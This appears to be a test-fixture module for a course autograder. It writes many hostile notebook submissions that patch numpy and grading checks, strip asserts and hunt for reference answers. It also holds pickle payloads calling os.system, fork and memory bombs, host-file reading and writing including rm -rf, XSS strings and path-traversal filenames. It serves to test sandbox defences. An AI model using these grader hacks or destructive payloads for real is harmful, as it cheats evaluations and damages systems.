"""Hostile and broken submissions for assignment 02: what was handed in, and which exercises are truly solved in it.

Each entry is a function of a folder that writes a submission there; it returns (keys that are right, a remark's words).
Where the attack stands in a cell of its own, or in one exercise, all others are right and must be paid.
"""

import json
import os
import shutil
import zipfile
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
NAME = "02_minimax_game"
KEYS = ("02.1", "02.2", "02.3", "02.4", "02.5")
CORPUS = {}


def hostile(function):
    """Registers a submission under the function's name."""
    CORPUS[function.__name__] = function
    return function


def notebook():
    """The solved notebook, as a dict."""
    return json.loads((ROOT / "solutions" / NAME / f"{NAME}.ipynb").read_text(encoding="utf-8"))


def cell(book, id_):
    return next(cell for cell in book["cells"] if cell["id"] == id_)


def code(source, id_):
    return {"cell_type": "code", "id": id_, "metadata": {}, "execution_count": None, "outputs": [], "source": source}


def unsolved(body="    return 0.5", key="02.1", signature="best_discriminator(p_data, p_g)"):
    """The solved notebook with one answer replaced."""
    book = notebook()
    cell(book, f"answer-{key.replace('.', '-')}")["source"] = f"def {signature}:\n{body}\n"
    return book


def front(book, source):
    """A cell before all others."""
    book["cells"].insert(0, code(source, "front"))
    return book


def blank():
    """The exercise as it was released, nothing solved."""
    return json.loads((ROOT / "exercises" / NAME / f"{NAME}.ipynb").read_text(encoding="utf-8"))


def save(folder, book):
    text = book if isinstance(book, str) else json.dumps(book)
    (folder / f"{NAME}.ipynb").write_text(text, encoding="utf-8")


# --- tricks that aim at the comparison -------------------------------------------------------------------


@hostile
def patched_isclose(folder):
    source = "import numpy as np\nnp.isclose = np.allclose = np.array_equal = lambda *a, **k: True\n"
    save(folder, front(blank(), source + "import numpy.testing as t\nt.assert_allclose = lambda *a, **k: None"))
    return (), "not done yet"


@hostile
def patched_isclose_and_checks(folder):
    save(folder, front(unsolved(), "from aigc_course import checks\nchecks.check = lambda *a: print('full marks')"))
    return KEYS[1:], ""


@hostile
def input_transformer(folder):
    save(folder, front(blank(), "get_ipython().input_transformers_cleanup.append(lambda lines: [])"))
    return (), ""


@hostile
def ast_transformer_without_asserts(folder):
    source = """import ast
class NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node): return ast.Pass()
    def visit_Raise(self, node): return ast.Pass()
get_ipython().ast_transformers.append(NoAsserts())"""
    save(folder, front(blank(), source))
    return (), "nothing"


@hostile
def always_equal(folder):
    body = """    class Equal(float):
        __eq__ = __le__ = __ge__ = __lt__ = __gt__ = lambda self, other: True
        __sub__ = __rsub__ = lambda self, other: 0.0
        __hash__ = float.__hash__
    return Equal(0.5)"""
    save(folder, unsolved(body))
    return KEYS[1:], ""


@hostile
def lying_array(folder):
    body = """    class Liar(np.ndarray):
        def __array_function__(self, *a): return True
        def __array_ufunc__(self, *a, **k): return True
        __eq__ = lambda self, other: True
    return np.full(len(p_data), 0.5).view(Liar)"""
    save(folder, unsolved(body))
    return KEYS[1:], ""


@hostile
def search_in_frames_and_gc(folder):
    body = """    import gc, inspect, sys
    wanted = []
    for frame in inspect.stack():
        wanted += [v for n, v in frame.frame.f_locals.items() if 'expect' in n or 'right' in n or 'reference' in n]
    for thing in gc.get_objects():
        if type(thing).__name__ == 'Exercise' or callable(getattr(thing, 'expected', None)):
            wanted.append(thing.expected(p_data, p_g))
    for name, module in list(sys.modules.items()):
        for value in list(getattr(module, 'EXERCISES', {}).values()) if name.startswith('aigc') else []:
            wanted.append(value.expected(p_data, p_g))
    return wanted[-1] if wanted else 0.5"""
    save(folder, unsolved(body))
    return KEYS[1:], ""


@hostile
def import_the_expectations(folder):
    body = """    import importlib, sys
    for name in ('aigc_course.checks.chapter_02', 'aigc_course.checks.exercise', 'aigc_course.grading.grader'):
        try:
            return importlib.import_module(name).EXERCISES[0].expected(p_data, p_g)
        except ImportError:
            pass
    from aigc_course import checks
    return checks.EXERCISES['02.1'].expected(p_data, p_g)"""
    save(folder, unsolved(body))
    return KEYS[1:], "KeyError"


@hostile
def read_the_solutions(folder):
    body = f"""    import glob, json
    found = []
    for top in ('/course', '/home', '/root', '/work', '/tmp', '/worker', {str(ROOT)!r}, '/proc/1/root', '/proc/1/cwd'):
        for name in ('solutions/*/*.ipynb', 'chapter_02.py', 'main/solutions/*/*.ipynb'):
            found += glob.glob(top + '/**/' + name, recursive='proc' not in top)
    for cell in json.load(open(found[0]))['cells']:
        if 'def best_discriminator' in ''.join(cell['source']):
            space = {{'np': np}}
            exec(''.join(cell['source']), space)
            return space['best_discriminator'](p_data, p_g)"""
    save(folder, unsolved(body))
    return KEYS[1:], "IndexError"


@hostile
def forged_replies(folder):
    body = """    import json, os, struct
    head = json.dumps({'id': 1, 'answers': [1, 1, 1, 1], 'error': None, 'sizes': [0]}).encode()
    for fd in range(3, 20):
        try:
            os.write(fd, struct.pack('>I', len(head)) + head)
        except OSError:
            pass
    return 0.5"""
    save(folder, unsolved(body))
    return KEYS[1:], "not asked for"


@hostile
def forged_array_header(folder):
    body = """    import sys
    def write(file, header, arrays=()):
        import json, struct
        blob = b'\\x93NUMPY\\x01\\x00v\\x00' + repr({'descr': '<f8', 'fortran_order': False,
               'shape': (10**15,)}).ljust(117).encode() + b'\\n'
        head = json.dumps({**header, 'sizes': [len(blob)] * 4}).encode()
        file.write(struct.pack('>I', len(head)) + head + blob * 4)
        file.flush()
    sys.modules['frames'].write_frame = write
    return 0.5"""
    save(folder, unsolved(body))
    return KEYS[1:], "not asked for"


@hostile
def pickled_answer(folder):
    body = """    import os
    class Bomb:
        def __reduce__(self): return os.system, ('touch /tmp/pickled',)
    return np.array([Bomb()], dtype=object)"""
    save(folder, unsolved(body))
    return KEYS[1:], "made of numbers"


@hostile
def pickle_over_the_wire(folder):
    body = """    import os
    class Bomb:
        def __reduce__(self): return os.system, ('touch /tmp/pickled',)
    old = np.lib.format.write_array
    def write_array(file, array, allow_pickle=False):
        old(file, np.array([Bomb()] * 4, dtype=object), allow_pickle=True)
    np.lib.format.write_array = write_array
    return p_data"""
    save(folder, unsolved(body))
    return KEYS[1:], "not asked for"


@hostile
def nan_and_wrong_shapes(folder):
    save(folder, unsolved("    return np.full((3, 3, 3), np.nan)"))
    return KEYS[1:], "shape"


@hostile
def enormous_answer(folder):
    save(folder, unsolved("    return np.zeros(30_000_000)"))
    return KEYS[1:], "are not taken"


# --- tricks that aim at the machine ----------------------------------------------------------------------


@hostile
def endless_loop(folder):
    save(folder, unsolved("    while True:\n        pass"))
    return KEYS[1:], "ran for more than"


@hostile
def endless_cell(folder):
    save(folder, front(notebook(), "while True:\n    pass"))
    return KEYS, "was stopped: it ran for more than"


@hostile
def loop_deaf_to_signals(folder):
    body = """    import signal, time
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            time.sleep(1000)
        except BaseException:
            pass"""
    save(folder, unsolved(body))
    return KEYS[1:], "ran for more than"


@hostile
def memory_bomb(folder):
    save(folder, unsolved("    hoard = []\n    while True:\n        hoard.append(bytearray(50_000_000))"))
    return KEYS[1:], "MemoryError"


@hostile
def memory_bomb_in_children(folder):
    body = """    import os, time
    for _ in range(8):
        if os.fork() == 0:
            hoard = [bytearray(b'x') * 900_000_000]
            time.sleep(60)
    time.sleep(60)"""
    save(folder, unsolved(body))
    return KEYS[1:], "stopped: it"  # took too much memory; a slow machine comes to the end of its time first


@hostile
def fork_bomb(folder):
    save(folder, unsolved("    import os\n    while True:\n        os.fork()"))
    return KEYS[1:], ""


@hostile
def flood_of_output(folder):
    save(folder, front(notebook(), "for _ in range(100):\n    print('x' * 1_000_000)"))
    return KEYS, "it printed more than"


@hostile
def giant_file(folder):
    source = "with open('/tmp/giant', 'wb') as file:\n    for _ in range(2000):\n        file.write(bytes(1_000_000))"
    save(folder, front(notebook(), source))
    return KEYS, "OSError"


@hostile
def background_process(folder):
    source = "import subprocess\nsubprocess.Popen(['sleep', '4321'], start_new_session=True)"
    save(folder, front(notebook(), source))
    return KEYS, ""


@hostile
def exits(folder):
    save(folder, front(unsolved("    import os\n    os._exit(0)"), "import sys\nsys.exit(3)"))
    return KEYS[1:], "ended itself"


@hostile
def kills(folder):
    body = """    import os, signal
    for pid in (-1, 1, os.getppid(), os.getpid()):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return 0.5"""
    save(folder, unsolved(body))
    return KEYS[1:], "ended itself"


@hostile
def segmentation_fault(folder):
    save(folder, unsolved("    import ctypes\n    ctypes.string_at(0)"))
    return KEYS[1:], "ended itself"


@hostile
def endless_recursion(folder):
    save(folder, unsolved("    return best_discriminator(p_data, p_g)"))
    return KEYS[1:], "RecursionError"


@hostile
def closed_streams(folder):
    source = "import os, sys\nsys.stdout = sys.stderr = None\nos.closerange(0, 3)"
    save(folder, front(notebook(), source))
    return KEYS, ""


@hostile
def noise_on_stderr(folder):
    source = "import sys, warnings, logging\nfor i in range(2000):\n    print('noise', file=sys.stderr)"
    save(folder, front(notebook(), source + "\nwarnings.warn('w')\nlogging.error('e')"))
    return KEYS, ""


@hostile
def network(folder):
    body = """    import socket, urllib.request
    for host in ('127.0.0.1', 'localhost', '10.0.0.1', '8.8.8.8'):
        try:
            socket.create_connection((host, PORT), 1).sendall(b'out')
        except OSError:
            pass
    socket.getaddrinfo('example.org', 80)
    return p_data / (p_data + p_g)"""
    save(folder, unsolved(body.replace("PORT", os.environ.get("AIGC_TEST_PORT", "80"))))
    return KEYS[1:], "gaierror"


@hostile
def reads_the_host(folder):
    canary = os.environ.get("AIGC_TEST_CANARY", "/nowhere")
    body = f"""    import glob, os
    HOME, seen = {os.path.expanduser("~")!r}, []
    for pattern in ('/proc/[0-9]*/environ', '/proc/[0-9]*/cmdline', '/home/*', HOME + '/*', HOME + '/.*', '/etc/*',
                    '/tmp/*', {canary!r}, {os.path.dirname(canary)!r} + '/**'):
        for path in glob.glob(pattern, recursive=True):
            try:
                seen.append(open(path, 'rb').read(4000))
            except OSError:
                pass
    text = b'|'.join(seen)
    assert b'SECRET-OF-THE-HOST' not in text, 'LEAKED'
    assert os.getuid() != 0 and 'AIGC_TEST_CANARY' not in os.environ, 'LEAKED'
    return p_data / (p_data + p_g)"""
    save(folder, unsolved(body))
    return KEYS, ""


@hostile
def writes_to_the_host(folder):
    canary = os.environ.get("AIGC_TEST_CANARY", "/nowhere")
    body = f"""    import os, shutil
    for path in ({canary!r}, '/etc/passwd', '/usr/bin/env', os.__file__, np.__file__, '/worker/worker.py',
                 '/course/aigc_course/data.py', '/proc/sys/kernel/core_pattern', '/proc/sysrq-trigger'):
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            open(path, 'w').write('spoiled')
        except OSError:
            pass
    shutil.rmtree('/course', ignore_errors=True)
    os.system('rm -rf {os.path.dirname(canary)} /usr/share/doc 2>/dev/null')
    return p_data / (p_data + p_g)"""
    save(folder, unsolved(body))
    return KEYS, ""


# --- broken and forged files -----------------------------------------------------------------------------


@hostile
def symlink_to_another(folder):
    (folder / f"{NAME}.ipynb").symlink_to(ROOT / "solutions" / NAME / f"{NAME}.ipynb")
    return (), "is a link"


@hostile
def folder_is_a_symlink(folder):
    folder.rmdir()
    folder.symlink_to(ROOT / "solutions" / NAME)
    return (), "symbolic link"


@hostile
def fifo(folder):
    os.mkfifo(folder / f"{NAME}.ipynb")
    return (), "no plain file"


@hostile
def invalid_json(folder):
    save(folder, "{'cells': [}")
    return (), "no valid JSON"


@hostile
def truncated(folder):
    save(folder, json.dumps(notebook())[:-2000])
    return (), "cut off"


@hostile
def deeply_nested(folder):
    save(folder, "[" * 200_000)
    return (), "nested too deeply"


@hostile
def not_utf8(folder):
    (folder / f"{NAME}.ipynb").write_bytes(b"\xe9" + json.dumps(notebook()).encode())
    return (), "no text in UTF-8"


@hostile
def saved_as_utf16(folder):
    (folder / f"{NAME}.ipynb").write_bytes(json.dumps(notebook()).encode("utf-16"))
    return KEYS, ""


@hostile
def json_but_no_notebook(folder):
    save(folder, '{"cells": {"a": 1}, "nbformat": 4}')
    return (), "no list of cells"


@hostile
def old_format(folder):
    save(folder, json.dumps({**notebook(), "nbformat": 3}))
    return (), "notebook format 3"


@hostile
def ten_thousand_cells(folder):
    book = notebook()
    book["cells"] += [code(f"x = {i}", f"x{i}") for i in range(10_000)]
    save(folder, book)
    return (), "10,019 cells"


@hostile
def cells_that_are_none(folder):
    book = notebook()
    book["cells"][1:1] = [
        None,
        7,
        {"cell_type": "code", "source": 5},
        {"cell_type": "code", "source": [1, None, "y = 1"]},
    ]
    save(folder, book)
    return KEYS, "is no cell"


@hostile
def giant_notebook(folder):
    with open(folder / f"{NAME}.ipynb", "wb") as file:
        file.truncate(3_000_000_000)  # sparse: it takes no room
    return (), "3000 MB"


@hostile
def zip_bomb(folder):
    with zipfile.ZipFile(folder / f"{NAME}.ipynb", "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bomb", bytes(50_000_000))
    return (), "zip archive"


@hostile
def empty_folder(folder):
    (folder / "essay.txt").write_text("my dog ate it")
    return (), "no .ipynb file"


@hostile
def two_notebooks(folder):
    for name, book in (("one.ipynb", unsolved()), ("two.ipynb", notebook())):
        (folder / name).write_text(json.dumps(book))
    return KEYS, "2 versions were handed in"


@hostile
def deleted_checks(folder):
    book = notebook()
    book["cells"] = [cell for cell in book["cells"] if not cell["id"].startswith("check-")]
    save(folder, book)
    return KEYS, ""


@hostile
def duplicated_checks(folder):
    book = unsolved()
    book["cells"] += [{**cell} for cell in book["cells"] if cell["id"].startswith("check-")] * 3
    save(folder, book)
    return KEYS[1:], "has the id of an earlier cell"


@hostile
def reordered(folder):
    book = notebook()
    book["cells"] = book["cells"][::-1]
    save(folder, book)
    return KEYS, ""


@hostile
def edited_checks(folder):
    book = unsolved()
    cell(book, "check-02-1")["source"] = "print('02.1 ✓ right'); assert True"
    save(folder, book)
    return KEYS[1:], ""


@hostile
def forged_points(folder):
    book = unsolved()
    for item in book["cells"]:
        if "nbgrader" in item["metadata"]:
            item["metadata"]["nbgrader"].update(points=1000, schema_version=99, checksum="0" * 32)
    book["metadata"]["score"] = 1000
    save(folder, book)
    return KEYS[1:], ""


@hostile
def forged_outputs(folder):
    book = unsolved()
    cell(book, "check-02-1")["outputs"] = [
        {"output_type": "stream", "name": "stdout", "text": "02.1 ✓ right (1 point)"}
    ]
    save(folder, book)
    return KEYS[1:], ""


@hostile
def swapped_ids(folder):
    book = notebook()
    for a, b in (("answer-02-1", "check-02-2"), ("answer-02-3", "check-02-1")):
        one, two = cell(book, a), cell(book, b)
        one["id"], two["id"] = two["id"], one["id"]
    save(folder, book)
    return KEYS, ""


@hostile
def memorised_answer(folder):
    save(folder, unsolved("    return np.array([0.3333])[: len(p_data)]"))
    return KEYS[1:], ""


@hostile
def script_in_the_feedback(folder):
    save(folder, unsolved("    raise ValueError('<script>alert(1)</script><img src=x onerror=alert(1)>')"))
    return KEYS[1:], "ValueError"


def build(folder):
    """Writes the whole corpus, one folder a student, and three files with troublesome names.

    Returns:
        {student: (keys that are right, words of a remark)}.
    """
    truth = {}
    for name, make in CORPUS.items():
        (folder / name).mkdir()
        truth[name] = make(folder / name)
    solved = ROOT / "solutions" / NAME / f"{NAME}.ipynb"
    for name, student in (
        (b"..%2f..%2fetc.ipynb", "..%2f..%2fetc"),
        (b"=cmd()<b>.ipynb", "'=cmd()<b>"),
        (b"J\xf6rg.ipynb", "J\\xf6rg"),
        ("李雷_123456_assignsubmission_file".encode(), "李雷"),
    ):
        path = os.path.join(os.fsencode(folder), name)
        if name.endswith(b".ipynb"):
            shutil.copy(solved, path)
        else:
            os.mkdir(path)
            shutil.copy(solved, os.path.join(path, b"notebook.ipynb"))
        truth[student] = (KEYS, "")
    return truth
